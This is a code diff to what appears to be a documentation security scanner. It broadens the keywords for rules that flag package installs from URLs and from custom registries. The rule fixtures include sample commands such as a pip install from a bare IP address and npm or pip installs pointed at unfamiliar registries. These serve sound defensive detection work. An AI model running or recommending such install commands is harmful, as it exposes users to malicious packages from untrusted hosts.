@@ -139,7 +139,8 @@ def install_refs(doc: Document) -> list[PackageRef]:
     return refs
 
 
-_INSTALL_WORDS = ("pip", "npm", "npx", "yarn", "pnpm", "bun ", "bunx", "uv ", "uvx", "poetry add", "pdm add")
+# "npm" also covers pnpm; "uv" covers uvx; "bun" covers bunx.
+_INSTALL_WORDS = ("pip", "npm", "npx", "yarn", "uv", "bun", "poetry")
 
 
 # -- bundled lists ---------------------------------------------------------------------------------
@@ -392,7 +393,7 @@ class InstallFromUrl(SharedKeywordRule):
     category = Category.SUPPLY_CHAIN
     severity = Severity.MEDIUM
     confidence = Confidence.HIGH
-    keywords = ("pip", "npm", "npx", "yarn", "pnpm", "bun ", "uv ")
+    keywords = _INSTALL_WORDS
     line_also = ("://",)
     matches = (
         "```bash\npip install http://45.9.148.12/helper-1.0.tar.gz\n```\n",
@@ -533,8 +534,7 @@ class CustomPackageIndex(SharedKeywordRule):
     category = Category.SUPPLY_CHAIN
     severity = Severity.MEDIUM
     confidence = Confidence.HIGH
-    keywords = ("index-url", "--registry", "registry=", "registry =", "find-links", "--index", "registry \"",
-                "set registry")
+    keywords = ("index", "registry")
     matches = (
         "```bash\nnpm install --save-dev audit-helper --registry https://npm.helper-tools.dev\n```\n",
         "```bash\npip install --extra-index-url https://pkgs.fast-mirror.net/simple internal-utils\n```\n",
